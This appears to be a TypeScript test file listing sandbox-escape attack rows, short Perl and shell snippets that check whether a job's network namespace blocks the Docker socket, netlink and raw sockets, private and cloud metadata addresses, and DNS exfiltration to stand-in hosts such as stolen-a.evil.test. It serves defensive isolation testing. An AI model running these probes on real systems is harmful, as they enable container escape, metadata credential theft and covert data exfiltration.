/** The network and the operator's sockets: a job has an empty network namespace. */
import { type Attack, attacks, perl, shell } from "../attack.ts";

const seen = (name: string) => `[ -e "$BAIT/seen/${name}" ]`;
const makes = (family: string, type: string, protocol = 0) =>
  `socket(my $s, ${family}, ${type}, ${protocol}) ? own('${family}') : nope('${family}');`;

/** The rows. */
export const SOCKETS: readonly Attack[] = [
  ...attacks("sockets", [
    perl(
      "talks to the engine's socket",
      'tcp(AF_UNIX, pack_sockaddr_un("$bait/run/docker.sock"));',
    ),
    perl("talks to an abstract socket", "tcp(AF_UNIX, pack('S', AF_UNIX) . \"\\0ct-operator\");"),
    perl(
      "writes to the log's socket",
      'udp(AF_UNIX, pack_sockaddr_un("$bait/run/log.sock"));',
      seen("unixgram"),
    ),
    perl(
      "talks to the engine's socket through the provider",
      'tcp(AF_UNIX, pack_sockaddr_un("/proc/$ENV{OPERATOR_PID}/root$bait/run/docker.sock"));',
    ),
    perl("makes a VSOCK, to the host of the virtual machine", makes("40", "SOCK_STREAM")),
    perl("makes a netlink socket for routes", makes("16", "SOCK_RAW")),
    perl(
      "hears of the machine's devices",
      "socket(my $s, 16, SOCK_RAW, 15) or nope('netlink'); bind($s, pack 'SSLL', 16, 0, 0, 1) ? own('uevent') : nope('bind');",
    ),
    perl("hears of the machine's audit", makes("16", "SOCK_RAW", 9)),
    perl("manages the machine's firewall", makes("16", "SOCK_RAW", 12)),
    perl("asks which sockets the machine has", makes("16", "SOCK_RAW", 4)),
    perl("makes a packet socket, to hear others' packets", makes("17", "SOCK_RAW")),
    perl("makes a packet socket without headers", makes("17", "SOCK_DGRAM")),
    perl("makes an XDP socket", makes("44", "SOCK_RAW")),
    perl("makes raw packets", makes("AF_INET", "SOCK_RAW", 1)),
    perl("makes raw packets of IPv6", makes("AF_INET6", "SOCK_RAW", 58)),
    perl(
      "sees the machine's network devices",
      "print slurp('/proc/net/fib_trie') =~ /169\\.254\\.169\\.254/ ? 'OWNED fib' : 'no';",
    ),
    perl(
      "sees the machine's connections",
      "slurp('/proc/net/tcp') =~ /:1B59 / ? own('tcp') : nope('tcp');",
    ),
    perl(
      "sees the machine's unix sockets",
      "slurp('/proc/net/unix') =~ /ct-operator/ ? own('unix') : nope('unix');",
    ),
  ]),
  ...attacks("network", [
    perl("connects to the machine's loopback", "tcp(AF_INET, in4('127.0.0.1', 7001));"),
    perl("connects to the machine's loopback by IPv6", "tcp(AF_INET6, in6('::1', 7001));"),
    perl(
      "connects to the machine's loopback by a mapped address",
      "tcp(AF_INET6, in6('::ffff:127.0.0.1', 7001));",
    ),
    perl("connects to the address that means here", "tcp(AF_INET, in4('0.0.0.0', 7001));"),
    perl("connects to a private address", "tcp(AF_INET, in4('192.168.77.7', 7001));"),
    perl("connects to another private address", "tcp(AF_INET, in4('10.66.0.53', 7001));"),
    perl("connects to a private address by IPv6", "tcp(AF_INET6, in6('fd66::7', 7001));"),
    perl("connects to a public address", "tcp(AF_INET, in4('203.0.113.9', 443));"),
    perl("sends mail", "tcp(AF_INET, in4('203.0.113.9', 25));"),
    perl("sends a datagram", "udp(AF_INET, in4('127.0.0.1', 7001));", seen("udp4")),
    perl("sends a datagram by IPv6", "udp(AF_INET6, in6('::1', 7001));", seen("udp6")),
    perl(
      "is reached from outside",
      `socket(my $s, AF_INET, SOCK_STREAM, 0); setsockopt($s, SOL_SOCKET, SO_REUSEADDR, 1); bind($s, in4('0.0.0.0', 7999)) and listen($s, 5) or nope('listen');
      my $pid = fork; exit if $pid; open STDIN, '/dev/null'; open STDOUT, '>/dev/null'; open STDERR, '>/dev/null'; alarm 3000; accept(my $who, $s); syswrite $who, 'x'; exit`,
      "perl -MSocket -e 'socket(my $s, AF_INET, SOCK_STREAM, 0); exit !connect($s, pack_sockaddr_in(7999, inet_aton(\"127.0.0.1\")))'",
    ),
  ]),
  ...attacks("metadata", [
    perl("reads the metadata of the cloud", "tcp(AF_INET, in4('169.254.169.254', 80));"),
    perl("reads the metadata of the cloud by IPv6", "tcp(AF_INET6, in6('fd00:ec2::254', 80));"),
    perl(
      "reads the metadata of the cloud by a mapped address",
      "tcp(AF_INET6, in6('::ffff:169.254.169.254', 80));",
    ),
    perl("reads the metadata of another cloud", "tcp(AF_INET, in4('100.100.100.200', 80));"),
  ]),
  ...attacks("dns", [
    shell(
      "carries data out in the name that it asks for",
      "getent hosts stolen-a.evil.test",
      seen("dns-name-stolen-a.evil.test."),
    ),
    perl(
      "asks a name server by itself",
      "my $q = pack('nnnnnn', 7, 0x100, 1, 0, 0, 0) . \"\\x08stolen-b\\x04evil\\x04test\\0\" . pack 'nn', 1, 1; socket(my $s, AF_INET, SOCK_DGRAM, 0); send $s, $q, 0, in4('10.66.0.53', 53);",
      seen("dns-name-stolen-b.evil.test."),
    ),
    perl("asks a name server by TCP", "tcp(AF_INET, in4('10.66.0.53', 53));"),
    perl(
      "asks with the C library",
      "gethostbyname('stolen-c.evil.test');",
      seen("dns-name-stolen-c.evil.test."),
    ),
    perl("asks by multicast", "udp(AF_INET, in4('127.0.0.1', 7353));", seen("multicast")),
  ]),
];
